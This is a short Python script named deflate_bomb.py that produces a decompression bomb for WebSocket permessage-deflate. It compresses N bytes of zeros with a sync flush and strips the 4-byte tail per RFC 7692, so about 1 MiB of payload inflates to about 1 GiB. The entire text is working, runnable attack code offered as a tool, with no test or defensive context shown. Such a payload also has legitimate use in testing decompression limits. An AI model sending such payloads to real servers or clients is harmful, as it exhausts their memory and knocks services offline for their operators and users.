"""Writes a permessage-deflate payload to stdout: N bytes of zeros, raw-deflated with a
sync flush and the 4-byte tail removed (RFC 7692 §7.2.1), as one message. Zeros deflate
about 1000:1, so N = 1 GiB gives a payload of about 1 MiB.

    deflate_bomb.py N
"""
import sys
import zlib

n = int(sys.argv[1])
z = zlib.compressobj(9, zlib.DEFLATED, -15)
chunk = bytes(1 << 20)
out = []
for _ in range(n >> 20):
    out.append(z.compress(chunk))
out.append(z.compress(bytes(n & ((1 << 20) - 1))))
out.append(z.flush(zlib.Z_SYNC_FLUSH))
payload = b"".join(out)
assert payload.endswith(b"\x00\x00\xff\xff")
sys.stdout.buffer.write(payload[:-4])
